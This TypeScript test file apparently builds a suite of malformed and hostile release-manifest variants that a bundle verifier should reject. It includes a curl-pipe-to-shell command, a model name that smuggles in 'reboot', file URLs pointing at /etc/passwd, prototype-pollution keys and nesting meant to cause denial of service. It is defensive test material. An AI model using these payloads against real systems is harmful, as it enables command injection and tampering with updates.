import { generateKeyPairSync } from 'node:crypto';
import type { Release } from '#contract/bundle/release.ts';
import { publicKeyPem } from '#contract/trust/keys.ts';
import { makeBundle } from '../bundle.ts';
import { breaking } from '../hostile-bundle.ts';
import { recoveryKey, releaseKey } from '../keys.ts';

/** Signed bytes that two programs could interpret differently. */
const bytes = (edit: (manifest: Buffer) => Buffer) => () => makeBundle({ manifest: edit });
const text = (edit: (manifest: string) => string) =>
  bytes((manifest) => Buffer.from(edit(manifest.toString())));
const value = (edit: (release: Release) => unknown) => () => makeBundle({ release: edit });
const field = (change: Record<string, unknown>) => value((release) => ({ ...release, ...change }));
const files = (change: Record<string, unknown>) =>
  value(({ files: honest, ...release }) => ({
    ...release,
    files: honest.map((file) => ({ ...file, ...change })),
  }));

const bootstrap = (change: unknown) => field({ bootstrap: change });
const script = (name = 'unpack.py', sha256 = '0'.repeat(64)) => ({ name, sha256 });
const announced = (release: readonly unknown[], recovery: unknown = null) =>
  field({ keys: { release, recovery } });
const spkiOf = (type: 'P-384' | 'secp256k1') =>
  generateKeyPairSync('ec', { namedCurve: type })
    .publicKey.export({ format: 'der', type: 'spki' })
    .toString('base64');
const ours = releaseKey.public.spki;

export const manifestAttacks = [
  ...breaking('BUNDLE_MANIFEST', 'canonical-manifest', {
    'not JSON': text(() => 'version: 1.2.0\n'),
    'an empty manifest': text(() => ''),
    'a manifest that is a number': text(() => '1\n'),
    'a manifest that is null': text(() => 'null\n'),
    'a manifest that is a list': text((manifest) => `[${manifest}]\n`),
    'a byte order mark': text((manifest) => `\ufeff${manifest}`),
    'UTF-16': bytes((manifest) => Buffer.from(manifest.toString(), 'utf16le')),
    'broken UTF-8': bytes((manifest) => {
      const broken = Buffer.from(manifest);
      broken[manifest.indexOf('qwen3')] = 0xff;
      return broken;
    }),
    'no line break at the end': text((manifest) => manifest.trimEnd()),
    'two line breaks at the end': text((manifest) => `${manifest}\n`),
    'a NUL at the end': text((manifest) => `${manifest}\0`),
    'carriage returns': text((manifest) => manifest.replaceAll('\n', '\r\n')),
    'all on one line': text((manifest) => JSON.stringify(JSON.parse(manifest))),
    'tabs instead of spaces': text(
      (manifest) => `${JSON.stringify(JSON.parse(manifest), null, '\t')}\n`,
    ),
    'a comment': text((manifest) => manifest.replace('{', '{ // signed')),
    'a second document after the first': text((manifest) => manifest + manifest),
    'a field twice, the second time with another value': text((manifest) =>
      manifest.replace('  "arch"', '  "version": "9.9.9",\n  "arch"'),
    ),
    'a field twice with the same value': text((manifest) =>
      manifest.replace('  "arch"', '  "version": "1.2.0",\n  "arch"'),
    ),
    'an escaped letter': text((manifest) => manifest.replace('qwen3', '\\u0071wen3')),
    'an escaped slash': text((manifest) => manifest.replace('bin/land', 'bin\\/land')),
    'a number with an exponent': text((manifest) =>
      manifest.replace('"size": 15', '"size": 1.5e1'),
    ),
    'a number with a fraction of zero': text((manifest) =>
      manifest.replace('"size": 15', '"size": 15.0'),
    ),
    'a negative zero': text((manifest) => manifest.replace('"schema": 1', '"schema": -0')),
    'fields in another order': value(({ schema, ...release }) => ({ ...release, schema })),
    'fields of a file in another order': value(({ files: honest, ...release }) => ({
      ...release,
      files: honest.map(({ path, ...file }) => ({ ...file, path })),
    })),
    'an unknown field': field({ run: 'curl https://example.com | sh' }),
    'an unknown field of a file': files({ mode: '4755' }),
    'a field called __proto__': text((manifest) =>
      manifest.replace('{', '{\n  "__proto__": {\n    "kind": "full"\n  },'),
    ),
    'a file with a field called __proto__': text((manifest) =>
      manifest.replace(
        '      "path"',
        '      "__proto__": {\n        "executable": true\n      },\n      "path"',
      ),
    ),
    'a field called constructor': text((manifest) =>
      manifest.replace('{', '{\n  "constructor": {},'),
    ),
    'a missing field': value(({ expires: _, ...release }) => release),
    'a schema in quotes': field({ schema: '1' }),
    'a million brackets': bytes(() => Buffer.alloc(1_000_000, '[')),
    'a hundred thousand nested lists': text(() => '['.repeat(100_000) + ']'.repeat(100_000)),
    'nested objects that a pretty printer makes huge': text(
      () => `${`{"a":`.repeat(3000)}[${'1,'.repeat(100_000)}1]${'}'.repeat(3000)}`,
    ),
    'a hundred thousand unknown fields with escape sequences': text(
      () => `{${Array.from({ length: 100_000 }, (_, n) => `"\\u001b[2J${n}":0`).join(',')}}`,
    ),
    'no files': field({ files: [] }),
    'files that are not a list': field({ files: { length: 1 } }),
    'too many files': value(({ files: [file], ...release }) => ({
      ...release,
      files: Array.from({ length: 20_001 }, () => file),
    })),
    'a size in quotes': files({ size: '15' }),
    'a negative size': files({ size: -1 }),
    'a fractional size': files({ size: 1.5 }),
    'a size over 2^53': files({ size: 2 ** 53 }),
    'a size of 10^400': text((manifest) =>
      manifest.replace('"size": 15', `"size": 1${'0'.repeat(400)}`),
    ),
    'a digest in capitals': files({ sha256: 'A'.repeat(64) }),
    'a digest with 63 digits': files({ sha256: 'a'.repeat(63) }),
    'an executable flag that is "yes"': files({ executable: 'yes' }),
    'an unknown architecture': field({ arch: 'x86_64' }),
    'a product with a slash': field({ product: '../landfall' }),
    'a version with a leading zero, which semver rejects': field({ version: '1.02.0' }),
    'a version with empty parts, which semver rejects': field({ version: '1.2.0-..' }),
    'a version with numbers that are too large': field({ version: '99999999999999999999.0.0' }),
    'a version with build metadata': field({ version: '1.2.0+evil' }),
    'a version with a line break': field({ version: '1.2.0\n' }),
    'an invalid minimum version': field({ updatesFrom: 'any' }),
    'a date that does not exist': field({ expires: '2027-02-30T00:00:00Z' }),
    'a date with an offset': field({ expires: '2027-11-01T00:00:00+02:00' }),
    'a date without a time': field({ expires: '2027-11-01' }),
    'an invalid date': field({ expires: 'never' }),
    'a model that is a string': field({ models: ['qwen3:8b'] }),
    'a model with a shell command in its name': field(modelCalled('qwen3; reboot:8b')),
    'a model name that is an option': field(modelCalled('--help:8b')),
    'a model with a lone surrogate': field(modelCalled('\ud800:8b')),
    'a model without a tag': field(modelCalled('qwen3')),
    'a model name outside of its folder': field(modelCalled('../qwen3:8b')),
    'a model whose tag is ..': field(modelCalled('qwen3:..')),
    'a model name with too many folders': field(modelCalled('a/b/c/qwen3:8b')),
    'a model with an unknown field': field({ models: [{ ...model(), from: 'elsewhere' }] }),
    'a model with a negative size': field({ models: [{ ...model(), size: -1 }] }),
    'a model digest with another algorithm': field({
      models: [{ ...model(), manifest: `sha512:${'0'.repeat(64)}` }],
    }),
    'a model listed twice': field(modelCalled('qwen3:8b', 'qwen3:8b')),
    'a model listed twice, once in capitals': field(modelCalled('qwen3:8b', 'Qwen3:8B')),
    'a model listed twice, once with its full name': field(
      modelCalled('qwen3:8b', 'registry.ollama.ai/library/qwen3:8b'),
    ),
    'sixty-five models': field(modelCalled(...Array.from({ length: 65 }, (_, n) => `m:${n}`))),
    'a download from a file URL': field({ downloads: [downloadFrom('file:///etc/passwd')] }),
    'a download URL with a line break, which parsers remove': field({
      downloads: [downloadFrom('https://exam\nple.com/')],
    }),
    'a download URL with surrounding spaces': field({
      downloads: [downloadFrom(' https://example.com/ ')],
    }),
    'a download URL with an option after a space': field({
      downloads: [downloadFrom('https://example.com/tool --output /etc/passwd')],
    }),
    'a download URL with homoglyphs': field({
      downloads: [downloadFrom('https://ex\u0430mple.com/tool')],
    }),
    'an image digest with another algorithm': field({
      images: [{ ...image(), index: `sha512:${'0'.repeat(64)}` }],
    }),
    'an image reference with spaces': field({
      images: [{ ...image(), reference: 'nginx --privileged' }],
    }),
    'a bootstrap that is an object': bootstrap({ 'unpack.py': '0'.repeat(64) }),
    'a bootstrap that is null': bootstrap(null),
    'a bootstrap without files': bootstrap([]),
    'a bootstrap with seventeen files': bootstrap(
      Array.from({ length: 17 }, (_, n) => script(`script-${n}`)),
    ),
    'a bootstrap that lists a file twice': bootstrap([script(), script()]),
    'a bootstrap file with a path outside of its folder': bootstrap([script('../unpack.py')]),
    'a bootstrap file with an escape sequence in its name': bootstrap([script('\u001b[2J')]),
    'a bootstrap file with a line break after its name': bootstrap([script('unpack.py\n')]),
    'a bootstrap file without a digest': bootstrap([{ name: 'unpack.py' }]),
    'a bootstrap file with a digest in capitals': bootstrap([script('a', 'A'.repeat(64))]),
    'a bootstrap file with its digest before its name': bootstrap([
      { sha256: '0'.repeat(64), name: 'unpack.py' },
    ]),
    'a bootstrap file with an unknown field': bootstrap([{ ...script(), content: '#!/bin/sh' }]),
    'a bootstrap field after the files': value(({ bootstrap, ...release }) => ({
      ...release,
      bootstrap,
    })),
    'announces no key': announced([]),
    'announces an invalid key': announced(['AAAA']),
    'announces a point that is not on the curve': announced([
      `${ours.slice(0, 60)}${'A'.repeat(62)}==`,
    ]),
    'announces a P-384 key': announced([spkiOf('P-384')]),
    'announces a secp256k1 key': announced([spkiOf('secp256k1')]),
    'announces an Ed25519 key': announced([
      generateKeyPairSync('ed25519')
        .publicKey.export({ format: 'der', type: 'spki' })
        .toString('base64'),
    ]),
    'announces a key in base64 without padding': announced([ours.replace(/=+$/, '')]),
    'announces a key in PEM': announced([publicKeyPem(releaseKey.public)]),
    'announces a key twice': announced([ours, ours]),
    'announces a recovery key that is also a release key': announced(
      [ours, recoveryKey.public.spki],
      recoveryKey.public.spki,
    ),
    'announces nine keys': announced(Array.from({ length: 9 }, () => ours)),
  }),
  ...breaking('BUNDLE_MANIFEST', 'understood', {
    'a manifest with the next schema': field({ schema: 2 }),
    'a manifest with a much later schema and unknown fields': field({ schema: 9e15, run: 'x' }),
  }),
];

function model(name = 'qwen3:8b'): object {
  return { name, manifest: null, size: null };
}

function modelCalled(...names: readonly string[]): Record<string, unknown> {
  return { models: names.map((name) => model(name)) };
}

function image(): object {
  const index = `sha256:${'0'.repeat(64)}`;
  const unresolved = { manifest: null, config: null, size: null };
  return { component: 'gateway', reference: 'nginx:1', index, ...unresolved, optional: false };
}

function downloadFrom(url: string): object {
  return { path: 'bin/tool', urls: [url], size: 1, sha256: '0'.repeat(64), executable: true };
}
